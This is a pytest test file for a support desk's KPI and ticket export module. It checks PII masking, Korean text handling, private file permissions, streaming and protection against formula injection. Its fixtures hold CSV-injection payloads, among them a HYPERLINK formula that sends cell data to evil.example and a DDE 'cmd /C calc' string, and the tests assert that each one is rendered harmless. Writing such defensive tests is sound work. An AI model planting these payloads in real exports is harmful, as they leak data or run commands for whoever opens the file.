"""KPI and ticket exports (services/export.py): read back as a spreadsheet would, with
Korean intact, PII masked, formulas never evaluated, files private, lists streamed."""

from __future__ import annotations

import csv
import os
import re
import stat
import uuid
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from xml.etree import ElementTree as ET

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agentdesk.services import export
from agentdesk.services.export import ExportError
from agentdesk.services.tickets import TicketRow
from tests.test_pii_layouts import PREFIXES, SUFFIXES, _plain, cards, rrns

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
CARD = "4111 1111 1111 1111"
RRN = "900101-1234567"
AT = datetime(2026, 11, 30, 15, 30, 5, tzinfo=UTC)  # 2026-12-01 00:30:05 in Seoul


def _read_csv(path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _col(ref: str) -> int:
    letters = re.match(r"[A-Z]+", ref).group()
    n = 0
    for ch in letters:
        n = n * 26 + ord(ch) - 64
    return n - 1


def _read_xlsx(path) -> list[list]:
    """Cell values of the first sheet, from the XML itself (no openpyxl here): shared
    strings, inline strings (constant_memory mode), numbers, booleans; formulas flagged."""
    with zipfile.ZipFile(path) as z:
        names = set(z.namelist())
        shared = []
        if "xl/sharedStrings.xml" in names:
            root = ET.fromstring(z.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in root.findall("m:si", NS)]
        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
    rows = []
    for r in sheet.iter(f"{{{NS['m']}}}row"):
        values: list = []
        for c in r.findall("m:c", NS):
            col = _col(c.get("r"))
            values += [None] * (col - len(values))
            assert c.find("m:f", NS) is None, "a formula was written"
            kind, v = c.get("t"), c.find("m:v", NS)
            if kind == "s":
                values.append(shared[int(v.text)])
            elif kind == "inlineStr":
                values.append("".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t")))
            elif kind == "b":
                values.append(v.text == "1")
            else:
                values.append(float(v.text))
        rows.append(values)
    return rows


def _excel_serial(local: datetime) -> float:
    return (local - datetime(1899, 12, 30)).total_seconds() / 86400


def _private(path) -> bool:
    return stat.S_IMODE(os.stat(path).st_mode) == 0o600


METRICS = {
    "tickets_created": 1234,
    "volume_by_channel": {"phone": 600, "chat": 400, "email": 234},
    "first_response_seconds": {"median": 95.5, "p90": 610, "count": 1200},
    "csat": {"rate": None, "responses": 0},
    "team": f"카드상담팀 {CARD}",
    "hourly": [3, 4],
    "empty": {},
}
DEFINITIONS = {
    "tickets_created": "tickets not deleted and not merged, created inside the period",
    "volume_by_channel": "{channel: count} over the cohort",
    "first_response_seconds": "earliest public agent reply or call log minus creation",
    "first_response_seconds.p90": "nearest-rank 90th percentile",
    "csat": "share of 4 and 5 among CSAT answers given inside the period",
}
FLAT = [
    ("tickets_created", 1234, DEFINITIONS["tickets_created"]),
    ("volume_by_channel.phone", 600, DEFINITIONS["volume_by_channel"]),
    ("volume_by_channel.chat", 400, DEFINITIONS["volume_by_channel"]),
    ("volume_by_channel.email", 234, DEFINITIONS["volume_by_channel"]),
    ("first_response_seconds.median", 95.5, DEFINITIONS["first_response_seconds"]),
    ("first_response_seconds.p90", 610, DEFINITIONS["first_response_seconds.p90"]),
    ("first_response_seconds.count", 1200, DEFINITIONS["first_response_seconds"]),
    ("csat.rate", None, DEFINITIONS["csat"]),
    ("csat.responses", 0, DEFINITIONS["csat"]),
    ("team", "카드상담팀 4111 **** **** 1111", ""),
    ("hourly[0]", 3, ""),
    ("hourly[1]", 4, ""),
    ("empty", None, ""),
]


def test_kpis_as_csv_flattened_with_definitions(tmp_path):
    path = tmp_path / "kpis.csv"
    assert export.write_kpis(path, METRICS, DEFINITIONS, "csv") == len(FLAT)
    rows = _read_csv(path)
    assert rows[0] == ["metric", "value", "definition"]
    assert rows[1:] == [[k, "" if v is None else str(v), d] for k, v, d in FLAT]
    assert CARD not in path.read_text(encoding="utf-8-sig") and _private(path)


def test_kpis_as_xlsx_numbers_stay_numbers(tmp_path):
    path = tmp_path / "kpis.xlsx"
    export.write_kpis(path, METRICS, DEFINITIONS, "xlsx")
    rows = _read_xlsx(path)
    assert rows[0] == ["metric", "value", "definition"]
    got = [(r[0], r[1] if len(r) > 1 else None, r[2] if len(r) > 2 else "") for r in rows[1:]]
    assert got == [(k, float(v) if isinstance(v, (int, float)) else v, d) for k, v, d in FLAT]
    assert _private(path)


@dataclass
class _Row:  # a TicketRow with its arrival time, as the KPI drill-down gives
    number: int
    subject: str
    channel: str
    status: str
    priority: str
    customer_name: str
    assignee_name: str
    created_at: datetime
    updated_at: datetime


def _rows():
    yield _Row(1042, f"카드 분실 신고 {CARD}", "phone", "open", "urgent", f"최영희 {RRN}", "김민지", AT, AT + timedelta(hours=1))
    yield _Row(1043, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "chat", "new", "normal", "+cmd|' /C calc'!A0",
               "@SUM(1+1)", AT, AT)
    yield _Row(1044, "-2+3", "email", "pending", "low", "\t=1+1", "", AT, AT)
    yield {"number": 1045, "subject": "Password reset", "channel": "chat", "status": "solved", "priority": "high",
           "customer": "Emily Clark", "assignee": "이준호", "created_at": AT, "updated_at": AT}
    # The inbox's own row type (no created_at): exported with an empty arrival time.
    yield TicketRow(id=uuid.uuid4(), number=1046, subject="배송 지연 문의", channel="email", status="open", priority="normal",
                    customer_name="최영희", assignee_name="", updated_at=AT, sla_next_due=None, tags="")


def test_tickets_as_csv_korean_masked_local_times_and_no_formulas(tmp_path):
    path = tmp_path / "tickets.csv"
    assert export.write_tickets(path, _rows(), "csv", tz="Asia/Seoul") == 5
    rows = _read_csv(path)
    assert rows[0] == ["number", "subject", "channel", "status", "priority", "customer", "assignee",
                       "created (Asia/Seoul)", "updated (Asia/Seoul)"]
    assert rows[1] == ["1042", "카드 분실 신고 4111 **** **** 1111", "phone", "open", "urgent", "최영희 900101-1******",
                       "김민지", "2026-12-01 00:30:05", "2026-12-01 01:30:05"]
    # Every text a spreadsheet would evaluate starts with an apostrophe; nothing else changes.
    assert rows[2][1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert rows[2][5:7] == ["'+cmd|' /C calc'!A0", "'@SUM(1+1)"]
    assert rows[3][1] == "'-2+3" and rows[3][5] == "'\t=1+1"
    assert rows[4][1:7] == ["Password reset", "chat", "solved", "high", "Emily Clark", "이준호"]
    assert rows[5][0] == "1046" and rows[5][7] == "" and rows[5][8] == "2026-12-01 00:30:05"
    text = path.read_text(encoding="utf-8-sig")
    assert CARD not in text and RRN not in text and _private(path)


def test_tickets_as_xlsx_strings_never_formulas(tmp_path):
    path = tmp_path / "tickets.xlsx"
    assert export.write_tickets(path, _rows(), "xlsx", tz="Asia/Seoul") == 5
    rows = _read_xlsx(path)  # fails on any <f> element
    assert rows[0][7] == "created (Asia/Seoul)"
    assert rows[1][:7] == [1042.0, "카드 분실 신고 4111 **** **** 1111", "phone", "open", "urgent", "최영희 900101-1******", "김민지"]
    assert rows[1][7] == pytest.approx(_excel_serial(datetime(2026, 12, 1, 0, 30, 5)), abs=1e-6)
    assert rows[2][1] == "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"  # as text, no apostrophe needed
    assert rows[2][5:7] == ["+cmd|' /C calc'!A0", "@SUM(1+1)"] and rows[3][1] == "-2+3"
    assert rows[5][7] is None and rows[5][0] == 1046.0
    with zipfile.ZipFile(path) as z:
        body = b"".join(z.read(n) for n in z.namelist())
    assert CARD.encode() not in body and RRN.encode() not in body and _private(path)


def test_an_existing_file_is_replaced_privately_and_a_failed_export_leaves_nothing(tmp_path, monkeypatch):
    path = tmp_path / "out.csv"
    path.write_text("old")
    os.chmod(path, 0o644)
    export.write_tickets(path, _rows(), "csv")
    assert _private(path) and "카드 분실 신고" in path.read_text(encoding="utf-8-sig")

    def broken():
        yield from _rows()
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        export.write_tickets(tmp_path / "half.xlsx", broken(), "xlsx")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no half file, no temporary left


def test_xlsx_refuses_more_rows_than_a_sheet_holds(tmp_path, monkeypatch):
    assert export.XLSX_MAX_ROWS == 1_048_575  # Excel's 1,048,576 rows less the header
    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 3)  # the same check, without writing a million rows
    taken = []

    def rows():
        for row in _rows():
            taken.append(row)
            yield row

    with pytest.raises(ExportError) as info:
        export.write_tickets(tmp_path / "big.xlsx", rows(), "xlsx")
    assert info.value.code == "export.too_many_rows" and "export this list as CSV" in str(info.value)
    assert len(taken) == 4 and list(tmp_path.iterdir()) == []  # stopped at the first row too many
    assert export.write_tickets(tmp_path / "big.csv", _rows(), "csv") == 5  # CSV has no such limit


def test_bad_format_and_unwritable_place_are_coded(tmp_path):
    with pytest.raises(ExportError) as info:
        export.write_kpis(tmp_path / "k.pdf", METRICS, DEFINITIONS, "pdf")  # type: ignore[arg-type]
    assert info.value.code == "export.format"
    with pytest.raises(ExportError) as info:
        export.write_tickets(tmp_path / "no" / "such" / "dir.csv", _rows(), "csv")
    assert info.value.code == "file.unwritable" and "dir.csv" in str(info.value)


def test_a_large_list_streams_in_constant_memory(tmp_path):
    """3,000 rows from a generator, written as they come: the peak stays far below what
    holding them does (measured: 0.7 MB streamed, 4 MB with the rows kept in the sheet)."""
    import tracemalloc

    def many():
        for i in range(3_000):
            yield _Row(i, f"문의 {i}", "phone", "open", "normal", "고객", "상담사", AT, AT)

    export.write_tickets(tmp_path / "warm.xlsx", [], "xlsx")  # XlsxWriter's import is not the export's memory
    tracemalloc.start()
    try:
        assert export.write_tickets(tmp_path / "many.xlsx", many(), "xlsx") == 3_000
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2 * 1024 * 1024, peak
    rows = _read_xlsx(tmp_path / "many.xlsx")
    assert len(rows) == 3_001 and rows[-1][:2] == [2_999.0, "문의 2999"]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cards(), rrns(), PREFIXES, SUFFIXES, st.sampled_from(["csv", "xlsx"]))
def test_no_card_or_resident_number_survives_an_export(tmp_path, card, rrn, prefix, suffix, fmt):
    """Masking as a property over generated layouts (tests/test_pii_layouts.py's), through
    both formats: what a spreadsheet shows never holds the number."""
    (number, written), (rrn_number, rrn_written) = card, rrn
    path = tmp_path / f"t.{fmt}"
    row = _Row(1, f"{prefix}{written}{suffix}", "phone", "open", "normal", f"고객 {rrn_written}", "", AT, AT)
    export.write_tickets(path, [row], fmt)
    cells = _read_csv(path) if fmt == "csv" else _read_xlsx(path)
    for text in (cells[1][1], cells[1][5]):
        assert number not in _plain(text) and rrn_number not in _plain(text)
